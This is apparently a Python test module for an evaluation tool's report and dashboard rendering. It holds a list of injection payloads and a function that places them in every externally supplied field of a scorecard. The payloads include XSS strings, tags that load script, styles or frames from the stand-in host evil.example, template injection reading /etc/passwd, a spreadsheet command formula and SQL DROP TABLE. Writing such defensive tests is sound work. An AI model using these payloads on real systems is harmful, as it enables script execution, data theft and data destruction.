"""Text that attacks a page, and scorecards with it in every field: for the reports and for the dashboard alike."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from typing import Any, get_args

from conftest import make_rubric

import evenhand
from evenhand.core.finding import Checked, Expected, Finding, Place, Severity
from evenhand.core.judgement import Claim, Condensed, Discounted, Evidence
from evenhand.core.panel import consensus
from evenhand.core.rules import GRADES
from evenhand.core.scorecard import Scorecard
from evenhand.judging.steps import Steps
from evenhand.work.submission import Event, Submission, ToolCall
from panels import model_judgement

ATTACKS = (
    "<script>window.ran = 1; alert(1)</script>",
    "</script><script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    '"><img src=https://evil.example/p onerror=alert(2)>',
    "' onmouseover='alert(3)' autofocus onfocus='alert(4)",
    '" onclick="alert(5)" x="',
    "<svg onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>",
    "<svg><a xlink:href='javascript:alert(8)'><text>x</text></a></svg>",
    "</svg></text></title><script>alert(9)</script>",
    "</title><script>alert(10)</script>",
    "</style><script>alert(11)</script>",
    "<style>@import url(https://evil.example/x.css); * { background: url(https://evil.example/b) }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(12)</script>'></iframe>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
    "<form action=https://evil.example/><input autofocus onfocus=alert(13)></form>",
    "<details open ontoggle=alert(14)>",
    "<body onload=alert(15)>",
    "<video><source onerror=alert(16)></video>",
    "<math><mtext><mglyph><style><img src onerror=alert(17)></style></mglyph></mtext></math>",
    "javascript:alert(18)",
    "data:text/html,<script>alert(19)</script>",
    "<!-- unfinished",
    "]]><![CDATA[<script>alert(20)</script>",
    "{{ 7 * 7 }}{% raw %}{% include '/etc/passwd' %}{# x #}{{ cycler.__init__.__globals__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt; &amp;lt; &#60;script&#62;",
    "\u202etxt.exe\u202c \u2066hidden\u2069 \u200bzero\ufeff \U000e0041",
    "\x1b[31mred\x1b[0m \x07\x08\x7f\x85\u2028\u2029",
    "a" * 3000,
    "=cmd|' /C calc'!A0",
    "x'; DROP TABLE evaluations; --",
)

EVERY_ATTACK = " ".join(ATTACKS)

OUTPUT = "first line\nthe quoted passage\nlast line"


def rich_card() -> tuple[Scorecard, Submission]:
    """A scorecard that has everything a page can show, and its transcript."""
    events = (
        Event("message", "user", "do it", Place("run.jsonl", 1), agent="helper"),
        Event(
            "tool_call",
            "assistant",
            "",
            Place("run.jsonl", 2),
            ToolCall("Bash", {"command": "in the arguments"}, result="in the result", failed=True),
        ),
        Event("message", "assistant", "said on the way", Place("run.jsonl", 3)),
    )
    submission = Submission(
        output=OUTPUT, task="the task", reference="the reference", events=events, source="run.jsonl"
    )
    quotes = (Evidence("the quoted passage"), Evidence("in the result"), Evidence("nowhere to be found"))
    checked = Checked(
        checks="hash",
        findings=(
            Finding("made-up", "safety", "major", "a fault", quote="first line", precise=True),
            Finding("fine", "safety", None, "all in order"),
        ),
        expectations=(Expected("must be so", "unmet", "correctness", "minor", "it is not"),),
    )
    claim = Claim("f0", "an explanation", (Evidence("last line"),))
    generous = model_judgement(
        8,
        name="judge:generous",
        evidence=quotes,
        red_flags=(claim,),
        bonuses=(Claim("b0", "well done", (Evidence("last line"),)),),
        discounted=(Discounted("red_flag", "f1", "judge", "outvoted", "lost", (Evidence("said on the way"),)),),
        condensed=(Condensed("judge", 1, 2, 3, "too long"),),
        warnings=("a warning",),
    )
    judges = [generous, model_judgement(5, name="judge:strict", evidence=quotes, red_flags=(claim,))]
    judgement = consensus(judges)._replace(checked=checked, skill="the skill", task="the task")
    return Steps(make_rubric()).evaluate_written(judgement, submission=submission, id="the id").card, submission


_KEPT = {
    *evenhand.DIMENSIONS,
    *(grade.letter for grade in GRADES),
    *get_args(Severity),
    *("red_flag", "bonus", "observation", "unverified", "unlisted", "outvoted", "met", "unmet", "undecided"),
    *("sign", "t", "welch", "brunner-munzel", "none"),
    *("first", "second", "tie", "a", "b", "message", "tool_call", "red", "green", "name", "inconsistent", "assistant"),
}
"""Words of ours that choose a way through the code; no judge and no submission writes them."""


def poisoned(value: Any, attack: str) -> Any:
    """The same value with the attack in the place of every text from outside."""
    if isinstance(value, str):
        return value if value in _KEPT or value.startswith("2026-") else attack
    if isinstance(value, tuple):
        items = [poisoned(item, attack) for item in value]
        return type(value)(*items) if hasattr(value, "_fields") else tuple(items)
    if isinstance(value, list):
        return [poisoned(item, attack) for item in value]
    if is_dataclass(value) and not isinstance(value, type):
        given = {field.name: getattr(value, field.name) for field in fields(value) if field.init}
        return replace(value, **{name: poisoned(item, attack) for name, item in given.items()})
    if isinstance(value, Mapping):
        return {poisoned(key, attack): poisoned(item, attack) for key, item in value.items()}
    return value
